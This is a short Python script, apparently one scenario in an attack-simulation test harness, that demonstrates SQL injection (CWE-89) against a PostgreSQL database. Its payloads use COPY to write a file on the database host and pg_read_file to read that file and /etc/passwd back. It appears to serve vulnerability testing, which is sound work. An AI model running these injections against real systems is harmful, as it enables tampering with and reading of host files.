#!/usr/bin/python3 -B
"""SQL injection to a file: the database writes one, and reads its host's files (CWE-89)."""

from attack import Attack

FILE = "/data/postgres/lizard"


def run(attack: Attack) -> bool:
    attack.sql(f"COPY (SELECT 'a lizard was here') TO '{FILE}';", "SELECT 1")
    back = attack.sql("", f"SELECT pg_read_file('{FILE}')")
    users = attack.sql("", "SELECT pg_read_file('/etc/passwd')")
    return attack.prove("a lizard was here" in back and "postgres:x" in users, back=back)


Attack("T1190, T1005", ["edge", "catalog", "db"], [FILE, "/etc/passwd"], entry="catalog").main(run)
